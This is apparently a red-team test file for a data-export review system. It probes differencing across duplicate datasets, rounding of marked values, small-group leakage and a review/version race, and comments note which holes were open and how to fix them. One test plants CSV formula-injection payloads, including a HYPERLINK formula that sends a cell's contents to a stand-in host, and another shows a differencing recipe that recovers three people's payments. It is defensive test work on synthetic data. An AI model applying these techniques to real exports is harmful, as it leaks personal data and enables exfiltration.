/**
 * Red-team attacks, pass 35b: the export door (出域审核, DESIGN §3.5, invariants 4 and 8) attacked
 * with fresh eyes, over HTTP only, as the operator of `rt35b-org`, supervisors, and the application
 * entities `rt35b-lab` and `rt35b-lab2`:
 * - differencing evaded by a second dataset holding the same people: a release over one, the same
 *   breakdown without three people over the other (cells meet in the release store on their label,
 *   the dataset, never on the people);
 * - the numeric marks' tolerance against what the manifest says (a DOUBLE column of large values);
 * - the same dataset read twice, the people left out through the second alias only;
 * - what the checks' reasons and cells tell the operator of a small group (an exact count of 1
 *   would be a membership oracle);
 * - formula text planted in columns that are not VARCHAR (BLOB, ENUM, list, struct, map, JSON);
 * - a review racing a new version of the same export.
 * `was a hole` tests assert the SAFE outcome and failed when written (the comment says what was seen, which
 * file:line lets it through, what SAFE means and a suggested fix); `STOPPED:` tests assert the
 * defence that held, and fail if it breaks.
 *
 * Setup (test/helpers/crafted-domain.ts): `rt35b_pay_a` and `rt35b_pay_b`, the same 1,000 payments
 * of 200 people (resident IDs, four districts, integer amounts: a provider's file published twice,
 * say a yearly file and its corrected re-issue), and `rt35b_revenue`, 40 enterprises' revenues as
 * DOUBLE (no personal data), all ingested through the trusted pipeline and granted to rt35b-org.
 * The truth is computed from the generating SQL in an in-memory DuckDB.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { residentIdSql } from '../../desensitize/index.js';
import { craftedDomain } from '../helpers/crafted-domain.js';
import { expectStatus } from '../helpers/expect-status.js';
import { exportProbes, type CreatedExport } from '../helpers/export-probes.js';
import { useMemoryConnection } from '../helpers/memory-connection.js';
import { SUPERVISOR, type TestApp } from '../helpers/test-app.js';

const ORG = 'rt35b-org';
const OPERATOR = { role: 'operator', org: ORG, sub: 'otto' } as const;
const LAB = { id: 'rt35b-lab', name: 'RT35b Lab' };
const LAB_USER = { role: 'applicant', org: LAB.id, sub: 'rosa' } as const;
const SECOND_SUPERVISOR = { role: 'supervisor', org: 'authority', sub: 'sam' } as const;

const DISTRICTS = `['一区', '二区', '三区', '四区']`;
/** 200 people x 5 payments; person p lives in district p % 4; amounts 100..149, integers. */
const PAY_SQL = `SELECT ${residentIdSql('p', 3501)} AS id_card, ${DISTRICTS}[1 + p % 4] AS district, CAST(100 + (i * 37) % 50 AS INTEGER) AS amount
  FROM (SELECT range AS i, range // 5 AS p FROM range(1000))`;
/** 40 enterprises' yearly revenue, in yuan with fen, as DOUBLE: above 5e8, as a city's large firms' are. */
const REVENUE_SQL = `SELECT 'F' || lpad(CAST(range AS VARCHAR), 3, '0') AS firm, CAST(1234567890.37 + range * 98765.43 AS DOUBLE) AS revenue FROM range(40)`;

/** Three people of 二区 (p % 4 = 1): the ones the second export leaves out. */
const TARGETS = [5, 9, 13];

describe('red team 35b: the export door with fresh eyes', () => {
  const memory = useMemoryConnection();
  const domain = craftedDomain(ORG, LAB, 'red team 35b');
  let t: TestApp;
  let targetIds: string[];

  beforeAll(async () => {
    t = await domain.start();
    expectStatus(await t.call(SUPERVISOR, 'POST', '/v1/applicants', { id: 'rt35b-lab2', name: 'RT35b Lab 2' }), 201);
    await domain.ingest('rt35b_pay_a', PAY_SQL);
    await domain.ingest('rt35b_pay_b', PAY_SQL);
    await domain.ingest('rt35b_revenue', REVENUE_SQL);
    await domain.refresh();
    const rows = await memory.connection.all(`SELECT ${residentIdSql('p', 3501)} AS id_card FROM (SELECT range AS p FROM range(200)) WHERE p IN (${TARGETS.join(', ')})`);
    targetIds = rows.map((r) => String(r.id_card));
  }, 600_000);
  afterAll(async () => {
    await t.close({ remove: true });
  });

  const exports = exportProbes(() => t, OPERATOR, LAB.id, 'red team 35b');
  const check = (e: { checks: { name: string; status: string }[] }, name: string) => e.checks.find((c) => c.name === name)?.status;
  const notTargets = () => `id_card NOT IN (${targetIds.map((id) => `'${id}'`).join(', ')})`;
  /** Payments and their sum per district of `table`, leaving out `where`'s people. */
  const perDistrict = (table: string, where?: string) => `SELECT district, count(*) AS payments, sum(amount) AS paid FROM ${table}${where ? ` WHERE ${where}` : ''} GROUP BY district`;
  const download = async (id: string) => expectStatus(await t.call(LAB_USER, 'GET', `/v1/exports/${id}/download`), 200).body.replace(/^\uFEFF/, '');
  const csvRows = (text: string) => text.split('\r\n').filter(Boolean).slice(1).map((line) => line.split(','));
  const truth = (sql: string) => memory.connection.all(sql);

  // ---------------------------------------------------------------------------------------------
  // 1. Differencing: a second dataset holding the same people.
  // ---------------------------------------------------------------------------------------------

  it('was a hole (fix: released cells are compared with new ones whatever dataset is behind them, on the domain-wide entity keys): a release over one dataset and the same breakdown without three people over a second dataset holding the same people both pass, and their difference is those three people\'s payments', async () => {
    // Seen: the per-district release over rt35b_pay_a passes; the same breakdown over rt35b_pay_b
    // (the same people, the same rows: a file published twice) without persons 5, 9 and 13 also
    // passes differencing, one supervisor approves both, and the recipient subtracts: 二区's cells
    // differ by exactly those three people's 15 payments and their total.
    // Lets it through: sandbox/engine/release-store.ts:155 joins new and released cells on
    // `a.label = b.label AND a.entity = b.entity`, and the label is the source dataset id
    // (sandbox/disclosure/cell-entities.ts:63, personalLabels at :75): cells of two datasets are
    // never compared, though the entity keys are the domain's (one key per person in every dataset,
    // docs/sandbox.md "Entities, not rows"), so the people behind them are comparable.
    // SAFE: the second export fails differencing against the first release (3 people apart).
    // Fix: compare a new cell with every released cell whatever its dataset, on the entity key (the
    // key is already domain-wide): Δ on entities across labels (contributions compared only within
    // one label, where they mean the same measure); or, at least, across datasets with the same
    // entity kind.
    const released = await exports.release(perDistrict('rt35b_pay_a'));
    const second = await exports.create(perDistrict('rt35b_pay_b', notTargets()));
    const seen = check(second, 'differencing');
    if (second.outcome === 'pass') {
      // Show the leak end to end: released too, downloaded by the same recipient, subtracted.
      expectStatus(await t.call(OPERATOR, 'POST', `/v1/exports/${second.id}/submit`, {}), 200);
      expect(expectStatus(await t.call(SUPERVISOR, 'POST', `/v1/exports/${second.id}/reviews`, { version: 1, decision: 'approve' }), 200).json().status).toBe('approved');
      const [whole, without] = [csvRows(await download(released)), csvRows(await download(second.id))];
      const row = (rows: string[][], d: string) => rows.find((r) => r[0] === d)!;
      const learned = { payments: Number(row(whole, '二区')[1]) - Number(row(without, '二区')[1]), paid: Number(row(whole, '二区')[2]) - Number(row(without, '二区')[2]) };
      const [real] = await truth(`SELECT count(*) AS payments, sum(amount) AS paid FROM (${PAY_SQL}) WHERE id_card IN (${targetIds.map((id) => `'${id}'`).join(', ')})`);
      // The count is exact; the sum within the two recipients' marks (±1 unit each, see below).
      expect(learned.payments, 'the recipient rebuilt three people\'s payments').toBe(Number(real!.payments));
      expect(Math.abs(learned.paid - Number(real!.paid)), `learned ${learned.paid}, truth ${real!.paid}`).toBeLessThanOrEqual(2);
    }
    expect(seen, 'differencing of the same people over the second dataset').toBe('fail');
  });

  it('control: the same breakdown without the three people over the released dataset itself fails differencing', async () => {
    const same = await exports.create(perDistrict('rt35b_pay_a', notTargets()));
    expect(check(same, 'differencing')).toBe('fail');
    expect(same.outcome).toBe('fail');
  });

  it('STOPPED: the released dataset read twice, the three people left out through the second alias only (rt35b_pay_a#2): the first alias, under the released label, loses them too, and the export fails differencing', async () => {
    // The label of a second alias is another set (`#2`), never compared with the release; the first
    // alias joined to it keeps only the rows the second keeps. (A LEFT JOIN, which would keep the
    // first alias whole, makes the checks underivable: `review` for two supervisors, told the
    // cells are never compared: the NOT CLOSED case of export-attacks.test.ts.)
    const sql = `SELECT a.district, count(*) AS payments FROM rt35b_pay_a a
      JOIN rt35b_pay_a b ON a.id_card = b.id_card AND a.amount = b.amount WHERE b.${notTargets()} GROUP BY a.district`;
    const created = await exports.create(sql);
    expect(check(created, 'differencing'), JSON.stringify(created.checks)).toBe('fail');
    expect(created.outcome).toBe('fail');
  });

  // ---------------------------------------------------------------------------------------------
  // 2. What the marks do to the values, against what the manifest says.
  // ---------------------------------------------------------------------------------------------

  type Marked = { column: string; unit: string; decimals: number; rounded: boolean };
  const manifestOf = async (id: string) => expectStatus(await t.call(LAB_USER, 'GET', `/v1/exports/${id}/manifest`), 200).json() as { fingerprint: { markedColumns: Marked[]; tolerance: string } };

  it('was a hole (fix: a DOUBLE fits a number of decimals within its own rounding noise, 1e-15 relative, not 1e-9): a DOUBLE column of values above 5e8 is marked "at 0 decimals, not rounded", and its delivered values differ from the computed ones by up to 1.5 units, not the one unit the manifest states', async () => {
    // Seen: 40 revenues such as 1234567890.37 (DOUBLE, no personal data): the manifest says
    // {decimals: 0, unit: "1", rounded: false} and "each value ... differs from the computed one by
    // at most one unit"; the delivered CSV has 1234567890.0 or 1234567891.0: the fen are dropped
    // and the mark added, up to 1.5 yuan off, and nothing tells the recipient the values were rounded.
    // Lets it through: sandbox/engine/export-fingerprint.ts:78 (markOf)'s "fits" test
    // `abs(scaled - round(scaled)) <= 1e-9 * greatest(1, abs(scaled))` is relative: at 0 decimals any
    // value of magnitude 5e8 or more "fits" (0.5 <= 1e-9 x 5e8), so the column is taken as holding
    // whole numbers and desensitize/fingerprint.ts:189 rounds it (`round(x * 1)`).
    // SAFE: a marked column said not to be rounded is delivered within one unit of the computed
    // value (or the manifest says `rounded: true` and the tolerance covers it).
    // Fix: an absolute tolerance tied to a double's precision at that magnitude (ulp-based: the
    // decimals a value's shortest round-trip text has), or compare `CAST(x AS VARCHAR)` digits.
    const sql = 'SELECT firm, revenue FROM rt35b_revenue';
    const id = await exports.release(sql);
    const delivered = new Map(csvRows(await download(id)).map(([firm, revenue]) => [firm!, Number(revenue)]));
    const real = await truth(`SELECT firm, revenue FROM (${REVENUE_SQL})`);
    const marked = (await manifestOf(id)).fingerprint.markedColumns.find((c) => c.column === 'revenue')!;
    const worst = Math.max(...real.map((r) => Math.abs(delivered.get(String(r.firm))! - Number(r.revenue))));
    const seen = { marked, worst };
    expect(seen.marked, 'the control: the column is marked').toBeDefined();
    // The manifest's promise: within one unit unless it says rounded.
    if (!marked.rounded) expect(seen.worst, JSON.stringify(seen)).toBeLessThanOrEqual(Number(marked.unit) + 1e-6);
  });

  it('was a hole (fix: HUGEINT and UHUGEINT are written to the snapshot as DECIMAL(38, 0)): a sum of integers (HUGEINT) is delivered as a DOUBLE and marked ±1, though the door promises integer sums "delivered exactly as checked"', async () => {
    // Seen: `sum(amount)` of an INTEGER column is HUGEINT in prod (exact: 31000); in the export its
    // snapshot holds a DOUBLE, the CSV says "31001.0", and the manifest lists `paid` among the marked
    // columns (unit 1). docs/exports.md ("Never marked: integer columns (counts..., sums of
    // integers...)... delivered exactly as checked") and the differencing/trace rules ("aggregates are
    // not marked (their counts are integers)") do not hold for the commonest measure: the recipient
    // gets a total off by one, and a sum past 2^53 is not even the computed value.
    // Lets it through: the snapshot is Parquet, and DuckDB writes HUGEINT to Parquet as DOUBLE
    // (sandbox/engine/export-files.ts:69, the snapshot's `COPY ... (FORMAT parquet)`); planFingerprint
    // (sandbox/engine/export-fingerprint.ts:71 markOf) then sees a DOUBLE of whole numbers and marks it.
    // SAFE: the delivered sum equals the computed one (and stays an integer column).
    // Fix: cast HUGEINT/UHUGEINT outputs to DECIMAL(38,0) (exact in Parquet, scale 0: never marked)
    // before the snapshot is written.
    const id = await exports.release("SELECT district, sum(amount) AS paid FROM rt35b_pay_a WHERE district IN ('一区', '三区') GROUP BY district");
    const delivered = csvRows(await download(id));
    const real = await truth(`SELECT district, sum(amount) AS paid FROM (${PAY_SQL}) WHERE district IN ('一区', '三区') GROUP BY district`);
    const seen = delivered.map(([d, paid]) => ({ district: d, delivered: paid, computed: String(real.find((r) => r.district === d)!.paid) }));
    const marked = (await manifestOf(id)).fingerprint.markedColumns.map((c) => c.column);
    expect({ seen, marked }).toEqual({ seen: seen.map((r) => ({ ...r, delivered: r.computed })), marked: [] });
  });

  it('STOPPED: formula text planted in columns that are not VARCHAR (BLOB, ENUM, a list, a struct, a map, JSON) is prefixed like text in the delivered CSV', async () => {
    const formula = `=HYPERLINK("http://x.example/?"&A1,"open")`;
    const sql = `SELECT firm, CAST('${formula}' AS BLOB) AS b, CAST('${formula}' AS ENUM('${formula.replaceAll("'", "''")}', 'x')) AS e,
      ['${formula}'] AS l, {'k': '${formula}'} AS s, MAP {'${formula}': 1} AS m, CAST('"${formula.replaceAll('"', '\\"')}"' AS JSON) AS j, '@SUM(1)' AS at, '-2+3' AS minus
      FROM rt35b_revenue WHERE firm = 'F000'`;
    const id = await exports.release(sql);
    const text = await download(id);
    const cells = text.split('\r\n')[1]!;
    // The control: the formula text is delivered (quoted where needed), never at the start of a cell
    // or after a separator without the prefix.
    expect(text).toContain('HYPERLINK');
    for (const line of text.split('\r\n').slice(1).filter(Boolean)) expect(line, cells).not.toMatch(/(^|[,;\t])"?[=+\-@]/);
  });

  // ---------------------------------------------------------------------------------------------
  // 3. What the checks tell the operator of a small group.
  // ---------------------------------------------------------------------------------------------

  it('STOPPED: an output whose small group holds one person and one whose small group holds three read the same to the operator (checks, reasons, cells, rows, suppressed version, detail)', async () => {
    // 四区 is p % 4 = 3: persons 3, 7, 11 are in it. Each output shows 一区, 二区, 三区 whole and
    // 四区 of one person, or of three: an exact count per cell would say which.
    const ids = (await truth(`SELECT ${residentIdSql('p', 3501)} AS id_card FROM (SELECT unnest([3, 7, 11]) AS p)`)).map((r) => `'${String(r.id_card)}'`);
    const sqlOf = (k: number) => `SELECT district, count(*) AS payments, sum(amount) AS paid FROM rt35b_pay_a WHERE district <> '四区' OR id_card IN (${ids.slice(0, k).join(', ')}) GROUP BY district`;
    const seenBy = async (k: number) => {
      const created = await exports.create(sqlOf(k));
      const suppressed = expectStatus(await t.call(OPERATOR, 'POST', `/v1/exports/${created.id}/versions`, { mitigation: 'suppress' }), 201).json() as CreatedExport;
      const detail = expectStatus(await t.call(OPERATOR, 'GET', `/v1/exports/${created.id}`), 200).json() as Record<string, unknown>;
      const strip = (value: unknown) => JSON.parse(JSON.stringify(value).replaceAll(created.id, 'ID').replace(/"(createdAt|updatedAt|sql|sqlSha256|source|snapshotSha256)":("[^"]*"|\{[^}]*\})/g, '"$1":"-"'));
      return { created: strip({ outcome: created.outcome, checks: created.checks }), suppressed: strip({ outcome: suppressed.outcome, checks: suppressed.checks }), detail: strip(detail) };
    };
    const [one, three] = [await seenBy(1), await seenBy(3)];
    expect(one.created.outcome, 'the control: the small group fails').toBe('fail');
    expect(JSON.stringify(one.created)).toContain('fewer than 10');
    expect(three).toEqual(one);
  });

  // ---------------------------------------------------------------------------------------------
  // 4. A review racing a new version.
  // ---------------------------------------------------------------------------------------------

  it('STOPPED: an approval and a new version of the same export fired at once: one wins, and what is delivered is the version approved', async () => {
    for (let round = 0; round < 3; round += 1) {
      const small = "SELECT firm, revenue FROM rt35b_revenue WHERE firm < 'F005'";
      const created = await exports.create(small);
      expect(created.outcome).toBe('pass');
      expectStatus(await t.call(OPERATOR, 'POST', `/v1/exports/${created.id}/submit`, {}), 200);
      const [review, version] = await Promise.all([
        t.call(SUPERVISOR, 'POST', `/v1/exports/${created.id}/reviews`, { version: 1, decision: 'approve' }),
        t.call(OPERATOR, 'POST', `/v1/exports/${created.id}/versions`, { source: { sql: 'SELECT firm, revenue FROM rt35b_revenue' } }),
      ]);
      const statuses = [review.statusCode, version.statusCode];
      expect(statuses.filter((s) => s < 300), `${review.body} ${version.body}`).toHaveLength(1);
      const detail = expectStatus(await t.call(SUPERVISOR, 'GET', `/v1/exports/${created.id}`), 200).json() as { status: string; versions: unknown[] };
      if (review.statusCode === 200) {
        expect(detail.status).toBe('approved');
        expect(detail.versions).toHaveLength(1);
        expect(csvRows(await download(created.id))).toHaveLength(5);
      } else {
        expect(review.json().code).toBe('EXP_ERR_VERSION_CHANGED');
        expect(detail.status).toBe('draft');
        expect((await t.call(LAB_USER, 'GET', `/v1/exports/${created.id}/download`)).statusCode).toBeGreaterThanOrEqual(400);
      }
    }
  });
});
